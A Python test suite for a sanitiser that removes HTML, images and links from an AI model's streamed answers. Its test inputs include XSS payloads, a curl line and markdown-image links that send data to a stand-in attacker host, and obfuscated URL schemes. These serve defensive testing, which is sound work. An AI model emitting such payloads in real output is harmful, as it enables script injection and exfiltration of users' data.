"""What a model wrote is shown without markup that could run, load or lead away; live and later alike."""

import re
import time
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.safe_text import (
    LINK_REMOVED,
    StreamingSanitiser,
    allowed_addresses,
    html_text,
    sanitise,
    streamlit_text,
)
from core.answers import DocumentRef, Passage

ALLOWED = "https://wiki.example.org/leave"
FRAGMENTS = [
    *"<>&\"'[]()!`\\#:;/|*_~-=+ \n\t\r.,?1aZ",
    *(
        "\n\n",
        "```",
        "~~~",
        "``",
        "```py\n",
        "> ",
        "- ",
        "    ",
        "![",
        "](",
        "]:",
        "[x]: ",
        "<!--",
        "-->",
        "</",
    ),
    *(
        "<b>",
        "</b>",
        "<img src=x onerror=alert(1)>",
        "<script>",
        "<your-name>",
        "<a@b.example>",
        "<br>",
        "<i",
    ),
    *("&lt;", "&#60;", "&amp;", "&colon;", "&#96;", "&", "#60;", "lt;", "colon;", "&copy"),
    *(
        "http",
        "https:",
        "//",
        "evil.example",
        "www.",
        "/x?q=1",
        "://",
        "javascript:",
        "data:text/html,",
        "mailto:",
    ),
    *(
        f"[words]({ALLOWED})",
        ALLOWED,
        "[words](https://evil.example/x)",
        "![alt](https://evil.example/x)",
    ),
    *(
        "\u200b",
        "\u202e",
        "\U000e0041",
        "\ufe0f",
        "\u2028",
        "\u200d",
        "é",
        "中",
        "\u0645",
        "\ud800",
    ),
]
TEXTS = st.one_of(
    st.lists(st.sampled_from(FRAGMENTS), max_size=30).map("".join), st.text(max_size=60)
)
READER = MarkdownIt("gfm-like", {"linkify": False}).enable(["table", "strikethrough"])


def in_pieces(text: str, cuts: list[int], allowed: frozenset[str]) -> list[str]:
    sanitiser = StreamingSanitiser(allowed)
    places = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
    pieces = [text[a:b] for a, b in pairwise(places)]
    return [*map(sanitiser.feed, pieces), sanitiser.finish()]


@given(TEXTS, st.lists(st.integers(0, 200), max_size=40), st.booleans())
@hypothesis_settings(max_examples=400, deadline=None)
def test_however_a_text_is_cut_what_was_shown_is_the_final_text(
    text: str, cuts: list[int], links: bool
) -> None:
    allowed = frozenset((ALLOWED,)) if links else frozenset()
    whole = sanitise(text, allowed)
    assert "".join(in_pieces(text, cuts, allowed)) == whole
    assert "".join(in_pieces(text, list(range(len(text))), allowed)) == whole


@given(TEXTS)
@hypothesis_settings(max_examples=400, deadline=None)
def test_a_markdown_reader_finds_no_tag_no_image_and_no_link(text: str) -> None:
    safe = sanitise(text)
    for token in READER.parse(safe):
        assert token.type != "html_block", (text, safe)
        for inside in token.children or ():
            assert inside.type not in ("html_inline", "image", "link_open"), (text, safe)
            if inside.type == "text":
                assert not re.search(r"https?://|(?<![a-zA-Z0-9])www\.\w", inside.content), (
                    text,
                    safe,
                )


@given(TEXTS)
@hypothesis_settings(max_examples=400, deadline=None)
def test_only_allowed_links_are_found(text: str) -> None:
    safe = sanitise(text, {ALLOWED})
    for token in READER.parse(safe):
        for inside in token.children or ():
            assert inside.type not in ("html_inline", "image"), (text, safe)
            if inside.type == "link_open":
                assert inside.attrs["href"] == ALLOWED, (text, safe)
            if inside.type == "text":
                # As GFM makes links of bare addresses: up to the next blank, without punctuation at the end.
                for found in re.findall(r"https?://[^\s<]*", inside.content):
                    assert found.rstrip("?!.,:;*_~'\")]}»”’") == ALLOWED, (text, safe)


@given(TEXTS)
@hypothesis_settings(max_examples=400, deadline=None)
def test_no_address_is_left_anywhere_not_even_in_code(text: str) -> None:
    assert "://" not in sanitise(text)


@given(TEXTS)
def test_what_is_safe_stays_as_it_is(text: str) -> None:
    safe = sanitise(text)
    assert sanitise(safe) == safe


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("**Bold**, _it_, `x < y` and ~~old~~.", "**Bold**, _it_, `x < y` and ~~old~~."),
        ("1. a\n2. b\n   - c\n\n> q", "1. a\n2. b\n   - c\n\n> q"),
        ("| a | b |\n|---|---|\n| 1 | 2 |", "| a | b |\n|---|---|\n| 1 | 2 |"),
        ("```py\nif a<b: print('<i>')\n```\nend", "```py\nif a<b: print('<i>')\n```\nend"),
        ("1. Do:\n   ```sh\n   ls <dir>\n   ```", "1. Do:\n```sh\n   ls <dir>\n```"),
        ("costs < 5 and > 3, 1<2, a <- b", "costs < 5 and > 3, 1<2, a <- b"),
        ("snake_case, C:\\Users\\x, 5 * 3!", "snake_case, C:\\Users\\x, 5 * 3!"),
        ("[sic] and arr[0] [ ] [x]", "[sic] and arr[0] [ ] [x]"),
        ("a & b, R&D, AT&amp;T", "a & b, R&D, AT&T"),
        (
            "hr@example.org, see 3.2/4 or Node.js/React",
            "hr@example.org, see 3.2/4 or Node.js/React",
        ),
        ("می\u200cخواهم 👩\u200d💻 हिन्दी", "می\u200cخواهم 👩\u200d💻 हिन्दी"),
        ("run <your-name> now", "run ‹your-name› now"),
        ("&lt;b&gt; is bold", "‹b› is bold"),
        ("$5 and $10", "$5 and $10"),
    ],
)
def test_plain_words_and_their_structure_stay(written: str, shown: str) -> None:
    assert sanitise(written) == shown
    assert "".join(in_pieces(written, list(range(len(written))), frozenset())) == shown


GONE = LINK_REMOVED


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("a <b>bold</b> word<br>next", "a bold word next"),
        ("x<!-- hidden -->y", "x y"),
        ("![alt](https://evil.example/?q=secret) b", "alt b"),
        ("![alt][r] b\n\n[r]: https://evil.example/x", "alt b\n\n"),
        ('[words](https://evil.example/x "t").', "words."),
        ("[words][r] b", "words b"),
        ("[words](javascript:alert(1))", "words"),
        ("[![alt](https://evil.example/i)](https://evil.example/l)", "[alt]"),
        ("see https://evil.example/a?b=c.", f"see {GONE}."),
        ("**https://evil.example**", f"**{GONE}**"),
        ("<https://evil.example>", GONE),
        ("www.evil.example/x", GONE),
        ("evil.example/steal?data=1", GONE),
        ("https&colon;//evil.example/x", GONE),
        ("https&amp;colon;//evil.example/x", GONE),
        ("https:\\//evil.example/x", GONE),
        ("`curl https://evil.example/x`", f"`curl {GONE}`"),
        ("data:text/html,x", GONE),
        ("mailto:hr@example.org", "hr@example.org"),
        ("htt<b>ps://evil.example/x", f"htt {GONE}"),
        ("h\u200bttps://evil.example/x", GONE),
        ("<<b>img src=x onerror=alert(1)>", "‹img src=x onerror=alert(1)>"),
        ("a\U000e0041\u202eb\u200b\x07c\ue000", "abc"),
        ("<!channel> <@U123>", "‹!channel› ‹@U123>"),
        ("| `a | <i> ` |", "| `a | ‹i> ` |"),
        ("`a``<b>`` c` d", "`a``<b>`` c` d"),
        ("lone ` tick\nand ` <img>", "lone ' tick\nand ' "),
    ],
)
def test_what_could_run_load_or_lead_away_is_gone(written: str, shown: str) -> None:
    assert sanitise(written) == shown
    assert "".join(in_pieces(written, list(range(len(written))), frozenset())) == shown


@pytest.mark.parametrize(
    "parts",
    [
        ("[a]", "(/x)"),
        ("[a]", ": /x"),
        ("!", f"[a]({ALLOWED})"),
        ("<", "img src=x>"),
        ("`a`", "``<i>``"),
        ("~", "~~"),
        ("&l", "t;i>"),
    ],
)
def test_what_a_tag_parted_does_not_become_a_construct_without_it(parts: tuple[str, str]) -> None:
    safe = sanitise("<b>".join(parts), {ALLOWED})
    assert sanitise(safe, {ALLOWED}) == safe
    for token in READER.parse(f"{safe}\n\n[a]"):
        assert token.type not in ("html_block", "fence")
        for inside in token.children or ():
            assert inside.type not in ("html_inline", "image")
            assert inside.type != "link_open" or inside.attrs["href"] == ALLOWED


def test_nothing_of_a_half_arrived_construct_is_shown() -> None:
    for text in (
        "a ![x](http://evil",
        "a [x](http://evil",
        "a <img src=http://ev",
        "a http://evil",
        "a `x",
    ):
        sanitiser = StreamingSanitiser()
        assert sanitiser.feed(text) == "a "


def test_what_is_held_back_is_bounded() -> None:
    for opening in ("[", "![a](", "<a ", "<!-- ", "`", "&", "https://"):
        sanitiser = StreamingSanitiser()
        shown = sanitiser.feed(opening + "x" * 3000)
        assert len(shown) > 500, opening


def test_an_allowed_link_stays_and_nothing_can_be_added_to_it() -> None:
    text = f"[Leave]({ALLOWED}), {ALLOWED} and [x]({ALLOWED}?q=secret) or {ALLOWED}?q=secret"
    assert sanitise(text, {ALLOWED}) == f"[Leave]({ALLOWED}), {ALLOWED} and x or {GONE}"
    for behind in ("(SECRET)", ")SECRET", '"SECRET', "é", "|x", ").SECRET", "!(x)"):
        assert sanitise(f"{ALLOWED}{behind}", {ALLOWED}).split()[0].rstrip("!") == ALLOWED
    for same in (f"(see {ALLOWED}).", f"“{ALLOWED}”, yes", f"{ALLOWED}", f"{ALLOWED}!\n"):
        assert sanitise(same, {ALLOWED}) == same


def test_only_addresses_of_the_passages_on_listed_hosts_are_allowed() -> None:
    text = (
        "See https://wiki.example.org/a. (https://docs.wiki.example.org/b) https://evil.example/c "
        "https://wiki.example.org@evil.example/d https://wiki.example.org:9/e "
        "https://wiki.example.org.evil.example/f https://me@wiki.example.org/g"
    )
    passage = Passage(1, DocumentRef("d", "u", "t", "v"), "c", (), None, 0, len(text), text, 1.0)
    assert allowed_addresses([passage], ()) == frozenset()
    assert allowed_addresses([passage], ["wiki.example.org"]) == {"https://wiki.example.org/a"}
    assert allowed_addresses([passage], ["*.example.org"]) == {
        "https://wiki.example.org/a",
        "https://docs.wiki.example.org/b",
    }


@given(TEXTS)
@hypothesis_settings(max_examples=200, deadline=None)
def test_a_place_in_the_text_is_found_again(text: str) -> None:
    sanitiser = StreamingSanitiser()
    safe = sanitiser.feed(text) + sanitiser.finish()
    places = [sanitiser.place(offset) for offset in range(len(text) + 1)]
    assert places == sorted(places)
    assert all(0 <= place <= len(safe) for place in places)


def test_a_place_behind_what_was_taken_out_moves_with_its_words() -> None:
    text = "a <b>bold</b> [word](https://evil.example/x) here, https://evil.example and there"
    sanitiser = StreamingSanitiser()
    safe = sanitiser.feed(text) + sanitiser.finish()
    for word in ("bold", "word", "here", "there"):
        assert sanitiser.place(text.index(word)) == safe.index(word)


@pytest.mark.parametrize(
    "part",
    ["[", "](", "![", "<a ", "<!--", "`", "``a` ", "&a", "\\", "a.b", "[a](", "<b>", "((", "\n```", "~", "[a](b) ",
     "https:", "\u200b\u202e", "&amp;", "[x]: /", "<<", "a-", "//"],
)  # fmt: skip
def test_time_grows_with_the_length_only(part: str) -> None:
    def seconds(count: int) -> float:
        text = part * count
        started = time.perf_counter()
        sanitise(text)
        return time.perf_counter() - started

    count = 20_000 // len(part)
    seconds(count // 4)
    assert seconds(count * 4) < 1.0 + 30 * min(seconds(count) for _ in range(2))


@given(st.text())
def test_escaped_text_is_that_text(text: str) -> None:
    assert not set("<>\"'") & set(html_text(text))
    assert re.sub(
        "\u2060\\\\(.)", r"\1", streamlit_text(text.replace("\u2060", ""))
    ) == text.replace("\u2060", "")
